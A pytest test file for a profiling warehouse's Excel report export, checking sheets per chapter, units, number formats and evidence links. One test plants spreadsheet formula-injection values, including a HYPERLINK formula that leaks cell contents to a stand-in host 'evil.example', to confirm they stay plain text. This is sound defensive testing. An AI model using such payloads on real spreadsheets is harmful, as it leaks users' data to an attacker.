"""`warehouse report -o report.xlsx` (issue 18 item 5): a sheet per chapter, numbers as numbers in
the unit their header names, frozen headers, an Evidence sheet resolving every finding's ids,
every text a string (never a formula), a write it cannot do in one line."""

import json

import pytest
from click.testing import CliRunner
from openpyxl import load_workbook

from tests.built_once import copy_of
from tests.diagnosis import cluster as synth
from warehouse import db
from warehouse.cli import cli
from warehouse.model.classify import load_rules

CHAPTERS = ["Summary", "Steps", "Step percentiles", "Pipeline coverage", "Step classes", "Layers and blocks",
            "Findings",
            "Top kernels", "Bound families", "Communication", "Memory", "Evidence"]
#: a kernel name an attacker controls: a formula, an error value, a control character
HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@pytest.fixture(scope="module")
def two_runs_built(tmp_path_factory):
    """Two runs in one warehouse, analysed: ``base`` (rank 3 slow, rank 1's memory high), ``next``
    (rank 5's allreduce of step 2 slow). Built once (the analysis takes seconds): tests take a copy."""
    path = tmp_path_factory.mktemp("two-runs") / "warehouse.db"
    conn = db.connect(path)
    load_rules(conn)
    synth.build(conn, run="base", slow_rank=3, memory_rank=1)
    synth.build(conn, run="next", slow_collective=(2, 5))
    conn.close()
    result = CliRunner().invoke(cli, ["analyze", "--db", str(path)])
    assert result.exit_code == 0, result.output
    return path


@pytest.fixture
def two_runs(two_runs_built, warehouse_path):
    """This test's copy of the two analysed runs (it may write it)."""
    return copy_of(two_runs_built, warehouse_path)


def workbook(runner, warehouse, out):
    result = runner.invoke(cli, ["report", "--db", str(warehouse), "-o", str(out)])
    assert result.exit_code == 0, result.output
    return load_workbook(out)


def records(sheet) -> list[dict]:
    """The sheet's rows as dicts keyed by the header row."""
    rows = list(sheet.iter_rows(values_only=True))
    return [dict(zip(rows[0], row)) for row in rows[1:]]


def query(runner, warehouse, name, *params) -> list[dict]:
    args = ["query", name, "--db", str(warehouse), "--format", "json"]
    for param in params:
        args += ["-p", param]
    result = runner.invoke(cli, args)
    assert result.exit_code == 0, result.output
    return json.loads(result.output)


def test_a_sheet_per_chapter_with_frozen_bold_headers(runner, two_runs, tmp_path):
    book = workbook(runner, two_runs, tmp_path / "report.xlsx")
    assert book.sheetnames == CHAPTERS
    for sheet in book.worksheets:
        assert sheet.freeze_panes == "A2", sheet.title
        header = next(sheet.iter_rows(max_row=1))
        assert [c.value for c in header[:2]] == ["run_id", "run"] and all(c.font.b for c in header)
        # as wide as the header at least, never wider than the cap (+2 for the margin)
        for cell in header:
            assert len(cell.value) + 2 <= sheet.column_dimensions[cell.column_letter].width <= 62
    # every run's rows in each chapter, its run named
    assert {(r["run_id"], r["run"]) for r in records(book["Steps"])} == {(1, "base"), (2, "next")}
    summary = {(r["run"], r["what"]): r["value"] for r in records(book["Summary"])}
    assert (summary[("base", "ranks")], summary[("base", "steps")]) == (8, 2)
    assert summary[("base", "slow rank")] == "rank 3" and summary[("next", "slow rank")] == "none suspected"


def test_numbers_are_numbers_in_the_headers_unit(runner, two_runs, tmp_path):
    book = workbook(runner, two_runs, tmp_path / "report.xlsx")
    steps = {(r["run_id"], r["rank"], r["step"]): r for r in records(book["Steps"])}
    answers = query(runner, two_runs, "step_time")
    assert len(steps) == len(answers) == 32
    for answer in answers:
        row = steps[(answer["run_id"], answer["rank_id"], answer["step_id"])]
        for column in ("duration", "preparing", "computing", "communication not overlapped", "free"):
            assert row[f"{column} ms"] == pytest.approx(answer[f"{column.replace(' ', '_')}_ns"] / 1e6)
    # rank 3's step 1 of the slow run: 2.78 ms (tests/diagnosis/test_report.py has it in the HTML)
    assert steps[(1, 3, 1)]["duration ms"] == pytest.approx(2.78)
    assert book["Steps"]["E2"].number_format == "#,##0.000"

    kernels = [r for r in records(book["Top kernels"]) if r["run_id"] == 1]
    answers = query(runner, two_runs, "top_kernels", "run_id=1", "limit=15")
    assert [(k["kernel"], k["runs"]) for k in kernels] == [(a["name"], a["count"]) for a in answers]
    for kernel, answer in zip(kernels, answers):
        assert kernel["total ms"] == pytest.approx(answer["total_ns"] / 1e6)
        assert kernel["mean us"] == pytest.approx(answer["avg_ns"] / 1e3)
        assert kernel["share"] == pytest.approx(answer["ratio"])  # a ratio, shown as a percentage
    assert book["Top kernels"]["H2"].number_format == "0.0%"

    memory = {(r["run_id"], r["rank"], r["component"]): r for r in records(book["Memory"])}
    for answer in query(runner, two_runs, "memory_peak"):
        row = memory[(answer["run_id"], answer["rank_id"], answer["component"])]
        assert row["peak reserved GiB"] == pytest.approx(answer["peak_reserved_bytes"] / 2**30)
    assert memory[(1, 1, "PTA")]["peak reserved GiB"] == pytest.approx(60)


def test_the_evidence_sheet_resolves_every_findings_ids(runner, two_runs, tmp_path):
    book = workbook(runner, two_runs, tmp_path / "report.xlsx")
    evidence = {r["evidence"]: r for r in records(book["Evidence"])}
    assert len(evidence) == book["Evidence"].max_row - 1  # ids are unique
    findings = records(book["Findings"])
    assert sorted(f["#"] for f in findings) == sorted(f["id"] for f in query(runner, two_runs, "findings"))
    named = set()
    for finding in findings:
        ids = finding["evidence"].split()
        assert len(ids) == finding["evidence rows"] > 0
        for evidence_id in ids:
            row = evidence[evidence_id]
            assert (row["finding"], row["run_id"]) == (finding["#"], finding["run_id"])
        named.update(ids)
    assert named == set(evidence)  # and no evidence row that no finding names
    slow = next(f for f in findings if f["finding"] == "communication_collective_slow" and f["severity"] == "high")
    first = evidence[slow["evidence"].split()[0]]
    assert (first["input"], first["kind"], first["table"]) == ("/next/rank5/profiler_5.db", "rank_db",
                                                               "communication_op")


def test_a_hostile_name_stays_text(runner, two_runs, tmp_path):
    conn = db.connect(two_runs)
    conn.execute("UPDATE kernel SET name = ? WHERE name = 'MatMul_up'", (HOSTILE,))
    conn.execute("UPDATE kernel SET name = '#N/A' WHERE name = 'Swiglu'")
    conn.execute("UPDATE kernel SET name = 'Rms' || char(1) || 'Norm' WHERE name = 'RmsNorm'")
    conn.execute("UPDATE finding SET message = '+1-1' WHERE id = (SELECT min(id) FROM finding)")
    conn.execute("UPDATE run SET name = '@SUM(1)' WHERE name = 'next'")
    # a timestamp in ns since the epoch: more digits than a spreadsheet's number holds exactly
    conn.execute("UPDATE memory_record SET ts = ts + 1764000000000000001")
    conn.close()
    book = workbook(runner, two_runs, tmp_path / "report.xlsx")
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type in ("f", "e")]  # no formula, no error value
    texts = {c.value for c in cells if c.data_type == "s"}
    assert {HOSTILE, "#N/A", "Rms\\x01Norm", "+1-1", "@SUM(1)", "1764000000011000001"} <= texts


# (a read-only mount: tests/test_readonly_storage.py, in a mount namespace, as root ignores a folder's mode)
@pytest.mark.parametrize("where", ("a file", "missing"))
def test_an_unwritable_folder_is_one_line(runner, two_runs, tmp_path, where):
    folder = tmp_path / "out"
    if where == "a file":
        folder.write_text("not a folder")
    result = runner.invoke(cli, ["report", "--db", str(two_runs), "-o", str(folder / "report.xlsx")])
    assert result.exit_code == 1 and result.exception.__class__ is SystemExit
    assert result.output.count("\n") == 1 and "report.xlsx" in result.output, result.output


def test_a_warehouse_without_a_run_says_so(runner, warehouse_db, warehouse_path, tmp_path):
    book = workbook(runner, warehouse_path, tmp_path / "report.xlsx")
    assert book.sheetnames == ["Summary"]
    assert book["Summary"]["A1"].value == "No run with steps, kernels or findings in this warehouse."
